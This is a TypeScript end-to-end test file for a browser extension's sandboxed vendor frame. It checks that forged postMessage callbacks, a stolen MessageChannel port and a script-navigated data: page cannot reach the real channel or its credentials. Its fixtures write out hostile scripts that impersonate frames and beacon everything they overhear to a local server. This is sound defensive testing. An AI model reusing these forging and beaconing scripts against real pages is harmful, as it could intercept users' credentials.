import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startFixtureServer } from '../../scripts/fixture-server.mjs';
import { startUcsSim, type UcsSim } from '../../sim/ucs';
import { type Extension, expect, test } from './fixtures';

// The sandboxed vendor page (src/sandbox) in real Chromium: hosted as a frame of the offscreen document
// from the worker (`__softbar.frames`, sandboxed: true), it loads the UCS simulator's remote agent-bar
// bundle (which an extension page could not), forwards its callbacks and runs its methods. The offscreen
// document speaks to it over a MessageChannel per page load, never over the windows.

let sim: UcsSim;
let forgeDir: string;
let forgeUrl: string;
let closeForge: () => Promise<void>;
let intruder: Intruder;

/**
 * A server for the navigation test: `/navigate.js` is a "vendor script" that navigates its sandbox iframe
 * to a data: page; that page's script (`/intruder.js`) forges callbacks to the offscreen document, and
 * reports to `/beacon` that it ran and everything it hears (any window message, any port, anything on a
 * port); `/slow` answers after SLOW_MS, so the data: page stays in the iframe, not yet loaded, that long.
 */
interface Intruder {
  readonly navigateUrl: string;
  /** What the data: page reported, in order. */
  readonly beacons: string[];
  close(): Promise<void>;
}

const SLOW_MS = 3_000;

async function startIntruder(): Promise<Intruder> {
  const beacons: string[] = [];
  const scripts: Record<string, (base: string) => string> = {
    '/navigate.js': (base) => {
      const html = `<!doctype html><script src="${base}/intruder.js"></script><img src="${base}/slow">`;
      return `location.href = ${JSON.stringify(`data:text/html,${encodeURIComponent(html)}`)};`;
    },
    '/intruder.js': (base) => `
      const beacon = (what) => {
        // Synchronous, so that it is sent even if the document is gone right after.
        const request = new XMLHttpRequest();
        request.open('GET', '${base}/beacon?' + encodeURIComponent(what), false);
        try { request.send(); } catch {}
      };
      const forge = (why) =>
        parent.postMessage({ type: 'callback', name: 'onCredentials', args: [why] }, '*');
      beacon('ran');
      forge('at start');
      addEventListener('message', (event) => {
        beacon('heard ' + JSON.stringify(event.data) + ' with ' + event.ports.length + ' port(s)');
        forge('after a message');
        const port = event.ports[0];
        if (!port) return;
        port.onmessage = (message) => beacon('port heard ' + JSON.stringify(message.data));
        port.postMessage({ type: 'callback', name: 'onCredentials', args: ['over the port'] });
      });
    `,
  };
  const server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    const base = `http://${req.headers.host}`;
    const headers = { 'access-control-allow-origin': '*', 'cache-control': 'no-store' };
    const script = scripts[url.pathname];
    if (script) {
      res.writeHead(200, { ...headers, 'content-type': 'text/javascript' }).end(script(base));
    } else if (url.pathname === '/beacon') {
      beacons.push(decodeURIComponent(url.search.slice(1)));
      res.writeHead(204, headers).end();
    } else if (url.pathname === '/slow') {
      setTimeout(() => res.writeHead(404, headers).end(), SLOW_MS);
    } else {
      res.writeHead(404, headers).end();
    }
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  return {
    navigateUrl: `http://127.0.0.1:${port}/navigate.js`,
    beacons,
    close: () =>
      new Promise((done) => {
        server.closeAllConnections();
        server.close(() => done());
      }),
  };
}

test.beforeAll(async () => {
  sim = await startUcsSim();
  // A "vendor script" that impersonates the UCS sandbox: it posts to the offscreen document as if it were
  // the UCS frame, and tries to drive the UCS frame, which sits next to it, and to hand it a port of its
  // own. It reports through its own page's callbacks (which go over its own page's port).
  forgeDir = mkdtempSync(join(tmpdir(), 'softbar-forge-'));
  writeFileSync(
    join(forgeDir, 'forge.js'),
    `
    const report = (...args) => window.ucsOperator.onMessage(...args);
    const forged = { type: 'callback', name: 'onReady', args: ['forged'] };
    parent.postMessage(forged, '*');
    top.postMessage(forged, '*');
    const stolen = new MessageChannel();
    stolen.port1.onmessage = (event) => report('stolen', event.data);
    for (let i = 0; i < parent.frames.length; i++) {
      if (parent.frames[i] !== window) {
        parent.frames[i].postMessage({ type: 'call', id: 'forged', method: 'logout', args: [] }, '*');
        try {
          parent.frames[i].postMessage({ type: 'softbar:port' }, '*', [stolen.port2]);
        } catch {}
      }
    }
    stolen.port1.postMessage({ type: 'call', id: 'forged-port', method: 'logout', args: [] });
    setTimeout(() => report('forgeDone'), 300);
    `,
  );
  const server = await startFixtureServer({ root: forgeDir });
  forgeUrl = `${server.url}/forge.js`;
  closeForge = server.close;
  intruder = await startIntruder();
});

test.afterAll(async () => {
  await sim.close();
  await closeForge();
  await intruder.close();
  rmSync(forgeDir, { recursive: true, force: true });
});

type Seen = {
  type?: string;
  name?: string;
  id?: unknown;
  ok?: boolean;
  value?: unknown;
  args?: unknown[];
} & Record<string, unknown>;

/** Opens the sandbox page as a frame from the worker; what reaches its channel is kept in the worker. */
async function openSandbox(ext: Extension, key: string, screenTitle?: string): Promise<void> {
  const worker = await ext.worker();
  await worker.evaluate(
    async ({ frameKey, title }) => {
      const g = globalThis as unknown as {
        __softbar: { frames: { open(spec: unknown): Promise<unknown> } };
        __sandbox?: {
          channels: Record<string, unknown>;
          got: Record<string, unknown[]>;
          loads: Record<string, number>;
        };
      };
      g.__sandbox ??= { channels: {}, got: {}, loads: {} };
      const seen = g.__sandbox;
      const channel = (await g.__softbar.frames.open({
        key: frameKey,
        url: chrome.runtime.getURL('src/sandbox/index.html'),
        origin: 'null',
        allow: 'microphone; autoplay',
        sandboxed: true,
        ...(title === undefined ? {} : { screen: { title } }),
      })) as { onMessage(listener: (data: unknown) => void): void; onLoad(listener: () => void): void };
      seen.channels[frameKey] = channel;
      seen.got[frameKey] = [];
      seen.loads[frameKey] = 0;
      channel.onMessage((data) => seen.got[frameKey]?.push(data));
      channel.onLoad(() => {
        seen.loads[frameKey] = (seen.loads[frameKey] ?? 0) + 1;
      });
    },
    { frameKey: key, title: screenTitle },
  );
}

/** How many times the frame's page (re)loaded, as its channel reported. */
async function loadCount(ext: Extension, key: string): Promise<number | undefined> {
  const worker = await ext.worker();
  return worker.evaluate(
    (frameKey) =>
      (globalThis as unknown as { __sandbox?: { loads: Record<string, number> } }).__sandbox?.loads[frameKey],
    key,
  );
}

/** Posts `message` to the frame through its channel. */
async function post(ext: Extension, key: string, message: unknown): Promise<void> {
  const worker = await ext.worker();
  await worker.evaluate(
    ({ frameKey, data }) => {
      const g = globalThis as unknown as {
        __sandbox: { channels: Record<string, { post(message: unknown): void }> };
      };
      g.__sandbox.channels[frameKey]?.post(data);
    },
    { frameKey: key, data: message },
  );
}

async function got(ext: Extension, key: string): Promise<Seen[]> {
  const worker = await ext.worker();
  return worker.evaluate((frameKey) => {
    const g = globalThis as unknown as { __sandbox?: { got: Record<string, Seen[]> } };
    return g.__sandbox?.got[frameKey] ?? [];
  }, key);
}

const callbacks = async (ext: Extension, key: string) =>
  (await got(ext, key)).filter((m) => m.type === 'callback').map((m) => m.name);
const lastCallback = async (ext: Extension, key: string, name: string) =>
  (await got(ext, key)).findLast((m) => m.type === 'callback' && m.name === name)?.args;
const result = async (ext: Extension, key: string, id: unknown) =>
  (await got(ext, key)).find((m) => m.type === 'result' && m.id === id);

test('the sandboxed page loads the remote UCS bundle, forwards its callbacks and runs its methods', async ({
  ext,
}) => {
  const key = 'ucs-test';
  await openSandbox(ext, key);
  await expect.poll(async () => (await got(ext, key)).some((m) => m.type === 'ready')).toBe(true);

  // Before the bundle is loaded, its methods are not there.
  await post(ext, key, { type: 'call', id: 0, method: 'sso', args: [] });
  await expect
    .poll(() => result(ext, key, 0))
    .toMatchObject({ ok: false, error: expect.stringContaining('not available now') });

  await post(ext, key, {
    type: 'load',
    scriptUrl: sim.bundleUrl,
    config: { api: sim.api, headless: true, listDevices: true, confirmDevice: false },
  });
  // The CSP of the sandbox lets the remote script in, and its WebSocket out.
  await expect
    .poll(() => callbacks(ext, key))
    .toEqual(expect.arrayContaining(['onConnect', 'onCredentials']));
  expect((await got(ext, key)).filter((m) => m.type === 'loadError')).toEqual([]);

  const token = await sim.control.ssoToken('jan.novak');
  await post(ext, key, { type: 'call', id: 1, method: 'sso', args: ['jan.novak', token, 'CRM'] });
  await expect.poll(() => result(ext, key, 1)).toMatchObject({ ok: true });
  await expect.poll(() => callbacks(ext, key)).toEqual(expect.arrayContaining(['onUser', 'onIdentify']));
  expect((await lastCallback(ext, key, 'onIdentify'))?.[0]).toEqual(
    expect.arrayContaining([expect.objectContaining({ identifier: 'pc101' })]),
  );

  await post(ext, key, { type: 'call', id: 2, method: 'selectIdentifier', args: ['pc101'] });
  await expect.poll(() => callbacks(ext, key)).toContain('onReady');
  expect((await lastCallback(ext, key, 'onReady'))?.[0]).toMatchObject({ device: { identifier: 'pc101' } });

  // A method's return value comes back in the result.
  await post(ext, key, { type: 'call', id: 3, method: 'state', args: [] });
  await expect.poll(() => result(ext, key, 3)).toMatchObject({ ok: true, value: { status: 'OFFLINE' } });
  // A callback is not a method the parent may call.
  await post(ext, key, { type: 'call', id: 4, method: 'onReady', args: [] });
  await expect.poll(() => result(ext, key, 4)).toMatchObject({ ok: false });
});

test('messages from another "null"-origin frame reach neither the UCS channel nor the UCS page', async ({
  ext,
}) => {
  const key = 'ucs-test';
  await openSandbox(ext, key);
  await expect.poll(async () => (await got(ext, key)).some((m) => m.type === 'ready')).toBe(true);
  await post(ext, key, { type: 'load', scriptUrl: sim.bundleUrl, config: { api: sim.api, headless: true } });
  await expect.poll(() => callbacks(ext, key)).toContain('onCredentials');

  // A second sandbox frame in the same offscreen document runs a script that forges UCS messages.
  await openSandbox(ext, 'forge');
  await expect.poll(async () => (await got(ext, 'forge')).some((m) => m.type === 'ready')).toBe(true);
  await post(ext, 'forge', { type: 'load', scriptUrl: forgeUrl, config: {} });
  // What its page's callbacks send goes over its own port, under its own key...
  await expect.poll(async () => (await got(ext, 'forge')).map((m) => m.args?.[0])).toContain('forgeDone');
  // ...but what it posts through the windows is delivered nowhere, not even under its own key.
  expect((await got(ext, 'forge')).filter((m) => m.name === 'onReady')).toEqual([]);
  // The UCS channel never sees any of it, the UCS page did not act on the forged call, and did not take
  // the port the forger offered it (nothing came back on it).
  await new Promise((done) => setTimeout(done, 500));
  expect(await callbacks(ext, key)).not.toContain('onReady');
  expect(await result(ext, key, 'forged')).toBeUndefined();
  expect(await result(ext, key, 'forged-port')).toBeUndefined();
  expect((await got(ext, 'forge')).filter((m) => m.args?.[0] === 'stolen')).toEqual([]);
  expect(await callbacks(ext, key)).not.toContain('forgeDone');
  // The UCS page still answers its own channel.
  await post(ext, key, { type: 'call', id: 'still', method: 'state', args: [] });
  await expect.poll(() => result(ext, key, 'still')).toMatchObject({ ok: true });
});

test('a document the vendor script navigates the sandbox iframe to can neither forge callbacks nor be reached', async ({
  ext,
}) => {
  const key = 'ucs-nav';
  await openSandbox(ext, key);
  await expect.poll(async () => (await got(ext, key)).filter((m) => m.type === 'ready')).toHaveLength(1);
  const loads = () => loadCount(ext, key);
  expect(await loads()).toBe(1);

  // The "vendor script" navigates its iframe to a data: page (opaque origin "null", the same window).
  await post(ext, key, { type: 'load', scriptUrl: intruder.navigateUrl, config: {} });
  await expect.poll(() => intruder.beacons).toContain('ran');

  // While the data: page is in the iframe, what the worker posts (the agent's credentials, say) reaches
  // nothing: the page that held the port is gone, and no other got one.
  await post(ext, key, {
    type: 'call',
    id: 'secret',
    method: 'sso',
    args: ['jan.novak', 'secret-token', 'CRM'],
  });
  await post(ext, key, { type: 'describe', id: 'who' });

  // Once it has loaded, the offscreen document puts a fresh sandbox page in its place: a new load, a new
  // port, a new `ready`.
  await expect.poll(loads, { timeout: SLOW_MS + 10_000 }).toBe(2);
  await expect.poll(async () => (await got(ext, key)).filter((m) => m.type === 'ready')).toHaveLength(2);
  await post(ext, key, { type: 'describe', id: 'fresh' });
  await expect.poll(() => result(ext, key, 'fresh')).toMatchObject({ ok: true, value: { loaded: false } });

  // The data: page ran and forged callbacks, but heard nothing (no message, no port) and the worker
  // received none of its forgeries; the posts made while it was there were never answered.
  await new Promise((done) => setTimeout(done, 500));
  expect(intruder.beacons).toEqual(['ran']);
  expect(await callbacks(ext, key)).toEqual([]);
  expect(await result(ext, key, 'secret')).toBeUndefined();
  expect(await result(ext, key, 'who')).toBeUndefined();
});

test('in the vendor-screen window, and back in the offscreen document, the page gets a new port each time', async ({
  ext,
}) => {
  const key = 'ucs-screen';
  const readies = async () => (await got(ext, key)).filter((m) => m.type === 'ready').length;
  await openSandbox(ext, key, 'UCS');
  await expect.poll(readies).toBe(1);

  const opened = ext.context.waitForEvent('page', (p) => p.url().includes('/src/vendor-screen/index.html'));
  const worker = await ext.worker();
  await worker.evaluate(
    (frameKey) =>
      (
        globalThis as unknown as { __sandbox: { channels: Record<string, { showScreen(): Promise<void> }> } }
      ).__sandbox.channels[frameKey]?.showScreen(),
    key,
  );
  const screen = await opened;
  // The window hosts a fresh sandbox page: the handshake gave it a port there, and it answers on it.
  await expect.poll(() => loadCount(ext, key)).toBe(2);
  await expect.poll(readies).toBe(2);
  await post(ext, key, { type: 'describe', id: 'in the window' });
  await expect
    .poll(() => result(ext, key, 'in the window'))
    .toMatchObject({ ok: true, value: { loaded: false } });

  // The window closes: the frame goes back to the offscreen document, with a new page and a new port.
  await screen.close();
  await expect.poll(() => loadCount(ext, key)).toBe(3);
  await expect.poll(readies).toBe(3);
  await post(ext, key, { type: 'describe', id: 'back' });
  await expect.poll(() => result(ext, key, 'back')).toMatchObject({ ok: true, value: { loaded: false } });
  expect(await callbacks(ext, key)).toEqual([]);
});
